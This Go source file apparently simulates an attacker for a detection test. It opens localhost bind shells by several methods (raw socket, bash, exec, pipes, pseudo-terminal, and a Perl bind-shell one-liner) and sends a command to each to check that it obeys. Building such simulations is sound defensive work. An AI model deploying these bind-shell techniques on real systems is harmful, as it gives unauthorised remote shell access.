package actor

import (
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// service has a child process serve a port and start a shell for whoever connects, and connects to it: service HOW. The exit
// code is 0 only if the shell obeyed.
func service(args []string) error {
	if len(args) == 3 && args[0] == "child" {
		return serveShell(args[1], args[2])
	}
	if len(args) != 1 {
		return errors.New("service takes a way")
	}
	port := "46021"
	victim := exec.Command("/proc/self/exe", Argument, "service", "child", args[0], port)
	if args[0] == "perl" {
		victim = exec.Command("perl", "-e", `socket(L,2,1,6) or die; setsockopt(L,1,2,pack("i",1)); bind(L,pack("Sna4x8",2,`+port+
			`,"\x7f\0\0\1")) or die; listen(L,1) or die; accept(C,L) or die; open(STDIN,"<&C"); open(STDOUT,">&C"); open(STDERR,">&C"); exec "/bin/sh","-i"`)
	}
	victim.Stdout, victim.Stderr = os.Stdout, os.Stderr
	if err := victim.Start(); err != nil {
		return err
	}
	defer victim.Wait()
	defer victim.Process.Kill()
	var c net.Conn
	var err error
	for deadline := time.Now().Add(5 * time.Second); ; time.Sleep(5 * time.Millisecond) {
		if c, err = net.Dial("tcp", "127.0.0.1:"+port); err == nil || time.Now().After(deadline) {
			break
		}
	}
	if err != nil {
		return err
	}
	defer c.Close()
	if args[0] == "perl" {
		report(now(), "execve", "/bin/sh", nil)
	}
	return order(c)
}

// order is the attacker: it sends a command to a shell and checks the reply.
func order(c net.Conn) error {
	c.SetDeadline(time.Now().Add(8 * time.Second))
	if _, err := io.WriteString(c, shellCommand); err != nil {
		return err
	}
	var got strings.Builder
	for buffer := make([]byte, 4096); got.Len() < 1<<20; {
		n, err := c.Read(buffer)
		got.Write(buffer[:n])
		if strings.Contains(got.String(), shellReply) {
			return nil
		}
		if err != nil {
			return fmt.Errorf("the shell's reply was %q: %w", got.String(), err)
		}
	}
	return errors.New("the shell's reply is too long")
}

// serveShell is the service: it takes one connection and gives it a shell.
func serveShell(how, port string) error {
	l, err := net.Listen("tcp", "127.0.0.1:"+port)
	if err != nil {
		return err
	}
	c, err := l.Accept()
	if err != nil {
		return err
	}
	l.Close()
	shell := exec.Command("/bin/sh", "-i")
	report(now(), "execve", shell.Path, nil)
	switch how {
	case "socket", "bash", "exec":
		f, err := c.(*net.TCPConn).File()
		if err != nil {
			return err
		}
		if how == "exec" { // The service itself becomes the shell.
			if err := stdio(int(f.Fd())); err != nil {
				return err
			}
			return unix.Exec("/bin/sh", []string{"sh", "-i"}, os.Environ())
		}
		if how == "bash" {
			shell = exec.Command("bash", "--norc", "-i")
		}
		shell.Stdin, shell.Stdout, shell.Stderr = f, f, f
		return shell.Run()
	case "pipes":
		shell.Stdin, shell.Stdout, shell.Stderr = c, writerOnly{c}, writerOnly{c}
		shell.WaitDelay = time.Second
		if err := shell.Run(); err != nil && !errors.Is(err, exec.ErrWaitDelay) {
			return err
		}
		return nil
	case "terminal":
		return terminalShell(c, shell)
	}
	return fmt.Errorf("no way %q to serve a shell", how)
}

// terminalShell gives the shell a terminal of its own, as a login service does.
func terminalShell(c net.Conn, shell *exec.Cmd) error {
	master, err := os.OpenFile("/dev/ptmx", os.O_RDWR|unix.O_NOCTTY, 0)
	if err != nil {
		return err
	}
	defer master.Close()
	number, err := unix.IoctlGetInt(int(master.Fd()), unix.TIOCGPTN)
	if err == nil {
		err = unix.IoctlSetPointerInt(int(master.Fd()), unix.TIOCSPTLCK, 0)
	}
	if err != nil {
		return err
	}
	terminal, err := os.OpenFile(fmt.Sprintf("/dev/pts/%d", number), os.O_RDWR, 0)
	if err != nil {
		return err
	}
	shell.Stdin, shell.Stdout, shell.Stderr = terminal, terminal, terminal
	shell.SysProcAttr = &unix.SysProcAttr{Setsid: true, Setctty: true}
	err = shell.Start()
	terminal.Close()
	if err != nil {
		return err
	}
	go io.Copy(master, c)
	io.Copy(c, master)
	return shell.Wait()
}
